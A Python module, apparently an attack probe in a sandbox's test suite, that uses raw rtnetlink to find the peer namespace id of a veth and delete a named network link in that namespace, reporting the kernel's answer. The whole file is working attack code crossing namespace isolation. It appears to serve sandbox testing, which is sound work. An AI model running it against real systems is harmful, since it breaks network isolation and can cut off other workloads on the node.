"""What a process of a sandbox can do to a link of the node: `python -m cellwall.attack.reach LINK`.

A veth gives each of its two namespaces a number for the other one, and rtnetlink acts on the links of the namespace of
that number for whoever has CAP_NET_ADMIN in the user namespace that owns it (net/core/rtnetlink.c,
rtnl_get_net_ns_capable). Says `ready`, deletes the link at each line of its input, and says what the kernel answered.
"""

import errno
import socket
import struct
import sys

_NEWLINK, _DELLINK, _GETLINK = 16, 17, 18
_ERROR, _DONE = 2, 3
_REQUEST, _ACK, _DUMP = 0x1, 0x4, 0x300
_IFNAME, _LINK_NETNSID, _TARGET_NETNSID = 3, 37, 46
_HEADER, _LINK = struct.Struct("=IHHII"), struct.Struct("=BxHiII")


def delete_beyond(link: str) -> int:
    """Delete a link of the namespace at the other end of this one's veth; an errno, 0: it is gone."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as sock:
        numbers = [number for message in _ask(sock, _GETLINK, _DUMP) for number in _beyond(message)]
        if not numbers:
            return errno.ENOENT
        named = _attribute(_IFNAME, link.encode() + b"\0")
        (answer,) = _ask(sock, _DELLINK, _ACK, named + _attribute(_TARGET_NETNSID, struct.pack("=i", numbers[0])))
        return -int(struct.unpack_from("=i", answer)[0])


def _ask(sock: socket.socket, kind: int, flags: int, attributes: bytes = b"") -> list[bytes]:
    """The bodies of the links that are told, or of the acknowledgement."""
    body = _LINK.pack(socket.AF_UNSPEC, 0, 0, 0, 0) + attributes
    sock.send(_HEADER.pack(_HEADER.size + len(body), kind, flags | _REQUEST, 1, 0) + body)
    found: list[bytes] = []
    while True:
        data = sock.recv(1 << 17)
        while data:
            length, kind, *_ = _HEADER.unpack_from(data)
            message, data = data[_HEADER.size : length], data[(length + 3) & ~3 :]
            if kind == _ERROR:
                return [message]
            if kind == _DONE:
                return found
            if kind == _NEWLINK:
                found.append(message)


def _beyond(message: bytes) -> list[int]:
    """The number of the namespace where the other end of a link is."""
    rest, numbers = message[_LINK.size :], []
    while len(rest) >= 4:
        length, kind = struct.unpack_from("=HH", rest)
        if kind == _LINK_NETNSID:
            numbers.append(struct.unpack_from("=i", rest, 4)[0])
        rest = rest[(length + 3) & ~3 :]
    return numbers


def _attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("=HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)


def main() -> None:
    """See the module."""
    print("ready", flush=True)
    for _ in sys.stdin:
        print(delete_beyond(sys.argv[1]), flush=True)


if __name__ == "__main__":
    main()
